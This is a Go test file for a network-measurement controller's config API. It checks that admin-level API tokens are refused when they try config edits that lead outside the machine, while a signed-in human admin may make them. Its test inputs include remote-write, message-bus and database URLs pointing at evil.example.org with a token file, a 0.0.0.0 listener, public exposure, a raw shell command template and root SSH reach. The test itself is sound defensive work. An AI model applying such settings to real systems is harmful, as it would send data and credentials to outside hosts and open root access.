package web

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/pathwise-net/pathwise/account"
)

// A token with admin changes what is measured, and nothing that leads out of the controller's machine; the refusal names the key
// and who can. A person with admin changes either.
func TestTokensLeadNothingOut(t *testing.T) {
	t.Parallel()
	b := newBench(t)
	b.editing()
	b.run()
	b.serve(b.Handler(owner))
	invitation := b.invited("anna", "admin")
	b.serve(b.Handler(Listener{Secure: true}))
	b.expect(http.MethodPost, "/api/v1/invitation", `{"token": "`+invitation+`", "password": "`+password+`"}`, 200, "anna")
	anna := b.signIn("anna", password)
	robot := b.bearer("robot", account.Read, account.Run, account.Admin)
	current := func() string { return read[configDoc](b, "/api/v1/config", anna...).Version }
	more := func(key string) string { return meshText + "  " + key + "\n" }
	for key, text := range map[string]string{
		"controller.remote_write":                       more("remote_write: [{url: 'https://evil.example.org/', token_file: t}]"),
		"controller.nats":                               more("nats: {url: tls://evil.example.org}"),
		"controller.archive":                            more("archive: 'postgres://evil.example.org/x'"),
		"controller.listen":                             more("listen: '0.0.0.0:80'"),
		"controller.public":                             more("public: true"),
		"controller.callers.classes.little.daily_bytes": strings.Replace(meshText, "daily_bytes: 1", "daily_bytes: 2", 1),
		"tools.rtt.command":                             strings.Replace(meshText, "probe: ping, parameters: {count: 2, interval: 200ms}", "command: 'ping {target}'", 1),
		"hosts.new.reach":                               strings.Replace(meshText, "b: 10.0.0.2", "b: 10.0.0.2, new: {address: 10.0.0.5, reach: {ssh: {user: root}}}", 1),
	} {
		for _, refusal := range []struct {
			method, path, body string
			want               int
		}{
			{http.MethodPut, "/api/v1/config", proposal(current(), text, ""), 403},
			{http.MethodPost, "/api/v1/config/check", checked(text), 200},
		} {
			_, answer, _ := b.ask(refusal.method, refusal.path, refusal.body, robot...)
			b.expect(refusal.method, refusal.path, refusal.body, refusal.want, "an administrator who signed in", robot...)
			if !strings.Contains(answer, key) {
				t.Errorf("%s: %s", key, answer)
			}
		}
		b.expect(http.MethodPost, "/api/v1/config/check", checked(text), 200, `"errors":[]`, anna...)
	}
	next := strings.Replace(meshText, "b: 10.0.0.2", "b: 10.0.0.2, new: 10.0.0.5", 1)
	b.expect(http.MethodPut, "/api/v1/config", proposal(current(), next, ""), 200, "robot", robot...)
	b.expect(http.MethodPut, "/api/v1/config", proposal(current(), next+"  public: true\n", ""), 200, "anna", anna...)
	b.expect(http.MethodPut, "/api/v1/config", proposal(current(), next, ""), 403, "controller.public", robot...)
	var doc configDoc
	_, text, _ := b.ask(http.MethodGet, "/api/v1/config", "", robot...)
	if err := json.Unmarshal([]byte(text), &doc); err != nil || !strings.Contains(doc.Files[0].Text, "public: true") {
		t.Errorf("the mesh file is now %s", text)
	}
}
